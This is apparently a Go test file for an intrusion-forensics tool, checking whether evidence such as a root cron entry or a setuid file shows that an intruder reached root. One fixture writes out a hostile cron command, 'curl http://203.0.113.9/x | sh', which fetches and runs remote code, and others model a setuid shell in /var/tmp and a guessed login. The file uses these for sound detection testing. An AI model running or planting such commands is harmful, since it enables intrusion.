package story

import (
	"strings"
	"testing"

	"telltale/detect"
	"telltale/evidence"
)

// TestRootByTraces: what only root can have left shows that root was reached, also where nobody is seen to become root, and no story says both.
func TestRootByTraces(t *testing.T) {
	roots := cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")
	for name, tc := range map[string]struct {
		f    detect.Finding
		root bool
	}{
		"an entry of root's": {roots, true},
		"an entry of bob's":  {with(roots, func(f *detect.Finding) { f.As, f.Path = "bob", "/var/spool/cron/crontabs/bob" }), false},
	} {
		s := Build(t.Context(), append(lie(), tc.f), full())
		check(t, &s)
		if got := s.Verdict.Root != nil && *s.Verdict.Root; got != tc.root || strings.Contains(s.Verdict.Summary, "No sign was found") == tc.root {
			t.Errorf("%s: root %v: %s", name, got, s.Verdict.Summary)
		}
		for _, x := range s.Exposed {
			if x.Status != Possible {
				t.Errorf("%s: %s was exposed, %s, though that there was an intruder is only possible", name, x.Path, x.Status)
			}
		}
	}
	s := Build(t.Context(), append(lie(), roots), full())
	s.Verdict.Root = nil
	if len(s.Contradictions()) == 0 {
		t.Error("no sign of root and a cron entry of root's are no contradiction")
	}
}

// TestRootByFiles: a program that runs as root for whoever starts it was made by root; one that runs as its group, or as another account, was not.
func TestRootByFiles(t *testing.T) {
	odd := func(account, mode string) detect.Finding {
		return detect.Finding{Detection: "D39", What: detect.OddFile, Title: "/var/tmp/sh runs with its owner's rights", Detail: "runs with its owner's rights (mode " + mode + ") and no package owns it", Path: "/var/tmp/sh", Level: detect.High, Rung: evidence.Effect, Account: account, Mechanism: "file",
			Attack: []string{"T1548.001"}, First: at("01:03:00"), Last: at("01:03:00"), Count: 1, For: quote("/var/tmp/sh")}
	}
	in := login(detect.GuessedIn, "bob", "203.0.113.6", "password", "01:00:00", "01:10:00", detect.Access{FailedHere: 50, FailedAddress: 90, TriedAccounts: 5, TriedInvalid: 9, NewAddress: true})
	for name, tc := range map[string]struct {
		f    detect.Finding
		root bool
	}{
		"root's":            {odd("root", "4755"), true},
		"root's, its group": {odd("root", "2755"), false},
		"bob's own":         {odd("bob", "4755"), false},
	} {
		s := Build(t.Context(), []detect.Finding{in, tc.f}, full())
		if got := s.Verdict.Root != nil && *s.Verdict.Root; s.Verdict.Status != Compromised || got != tc.root {
			t.Errorf("%s: %s, root %v: %s", name, s.Verdict.Status, got, s.Verdict.Summary)
		}
	}
}
